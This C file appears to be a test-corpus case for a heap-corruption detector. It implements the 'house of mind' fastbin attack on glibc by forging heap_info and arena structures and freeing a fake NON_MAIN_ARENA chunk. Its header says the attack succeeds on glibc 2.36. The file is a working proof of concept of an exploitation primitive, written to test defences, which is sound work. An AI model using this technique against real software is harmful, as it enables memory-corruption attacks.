/* SPDX-License-Identifier: MIT */
/* house_of_mind (fastbin variant), on memory the program controls: inside
 * a 64 MiB-aligned region it plants a fake heap_info whose ar_ptr points to
 * a fake arena, then frees a fake chunk with NON_MAIN_ARENA set (0x40
 * tcache bin full): glibc writes the chunk into the fake arena's fastbin.
 * EXPECT-FULL: invalid-free,header-corruption
 * EXPECT-FAST: invalid-free,header-corruption
 * glibc 2.36: attack succeeds (the chunk lands in the fake arena). */
#include "corpus.h"
#include <sys/mman.h>

#define HEAP_MAX (64UL << 20)

int main(void)
{
	char *m = mmap(NULL, 2 * HEAP_MAX, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (m == MAP_FAILED)
		return corpus_result(0);
	char *heap = (char *)(((uintptr_t)m + HEAP_MAX - 1) & ~(HEAP_MAX - 1));
	size_t *arena = (size_t *)(heap + 0x1000); /* fake malloc_state, zeroed */
	for (int i = 270; i < 300; i++)
		arena[i] = 1UL << 40; /* system_mem and around: huge */
	*(size_t **)heap = arena; /* heap_info.ar_ptr */
	size_t *chunk = (size_t *)(heap + 0x4000);
	chunk[1] = 0x40 | 4;  /* size 0x40, NON_MAIN_ARENA */
	chunk[9] = 0x40 | 1;  /* next chunk's size */
	void *t[7];
	for (int i = 0; i < 7; i++)
		t[i] = malloc(0x30);
	for (int i = 0; i < 7; i++)
		free(t[i]);
	free(&chunk[2]); /* the misuse */
	int hit = 0;
	for (int i = 0; i < 16; i++)
		hit |= arena[i] == (size_t)chunk;
	return corpus_result(hit);
}
